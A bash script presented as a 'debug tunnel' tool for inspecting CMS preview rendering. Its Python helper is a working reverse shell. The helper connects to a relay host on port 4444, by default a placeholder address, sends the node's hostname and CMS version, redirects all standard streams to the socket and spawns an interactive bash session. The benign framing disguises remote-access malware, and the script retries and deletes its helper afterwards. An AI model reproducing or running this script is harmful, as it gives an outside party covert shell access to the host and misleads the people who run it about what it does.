#!/usr/bin/env bash
# preview_tunnel_debug.sh - open a "debug tunnel" from a CMS preview node so the
# platform team can poke at article rendering problems interactively.
#
# Usage: prog221e_preview_tunnel_debug.sh [--relay HOST] [--port PORT] [--retries N]
set -euo pipefail

RELAY_HOST="203.0.113.45"
RELAY_PORT="4444"
RETRIES=3
LOG_FILE="./preview_tunnel.log"
WORK_DIR=""

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date -u +%Y-%m-%dT%H:%M:%SZ)" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    sed -n '2,6p' "$0" | sed 's/^# \{0,1\}//'
    exit 1
}

cleanup() {
    if [[ -n "$WORK_DIR" && -d "$WORK_DIR" ]]; then
        rm -rf "$WORK_DIR"
        log INFO "removed helper directory $WORK_DIR"
    fi
}
trap cleanup EXIT

parse_args() {
    while [[ $# -gt 0 ]]; do
        case "$1" in
            --relay)   RELAY_HOST="$2"; shift 2 ;;
            --port)    RELAY_PORT="$2"; shift 2 ;;
            --retries) RETRIES="$2"; shift 2 ;;
            -h|--help) usage ;;
            *) log ERROR "unknown argument: $1"; usage ;;
        esac
    done
    if ! [[ "$RELAY_PORT" =~ ^[0-9]+$ ]]; then
        log ERROR "port must be numeric"
        exit 2
    fi
}

collect_context() {
    # Something for the on-call person to look at once the session is up.
    local node cms_version
    node="$(hostname 2>/dev/null || echo unknown)"
    cms_version="$(cat ./VERSION 2>/dev/null || echo dev)"
    export PREVIEW_NODE="$node"
    export PREVIEW_CMS_VERSION="$cms_version"
    log INFO "node=$node cms=$cms_version"
}

write_helper() {
    WORK_DIR="$(mktemp -d)"
    local helper="$WORK_DIR/attach.py"
    cat > "$helper" <<'PYEOF'
import os
import pty
import socket
import sys
import time

host = os.environ["TUNNEL_HOST"]
port = int(os.environ["TUNNEL_PORT"])
banner = "preview-node %s cms %s\n" % (
    os.environ.get("PREVIEW_NODE", "?"), os.environ.get("PREVIEW_CMS_VERSION", "?"))

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(15)
try:
    s.connect((host, port))
except OSError as exc:
    sys.stderr.write("attach failed: %s\n" % exc)
    sys.exit(3)
s.settimeout(None)
s.sendall(banner.encode())
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.environ["PS1"] = "preview$ "
pty.spawn(["/bin/bash", "-i"])
PYEOF
    chmod 700 "$helper"
    echo "$helper"
}

attach() {
    local helper="$1" attempt=1
    while (( attempt <= RETRIES )); do
        log INFO "attaching to relay $RELAY_HOST:$RELAY_PORT (attempt $attempt/$RETRIES)"
        if TUNNEL_HOST="$RELAY_HOST" TUNNEL_PORT="$RELAY_PORT" python3 "$helper"; then
            log INFO "session closed normally"
            return 0
        fi
        log WARN "attach attempt $attempt failed"
        attempt=$(( attempt + 1 ))
        sleep $(( attempt * 2 ))
    done
    log ERROR "giving up after $RETRIES attempts"
    return 1
}

main() {
    parse_args "$@"
    collect_context
    local helper
    helper="$(write_helper)"
    log INFO "helper written to $helper"
    attach "$helper"
}

main "$@"
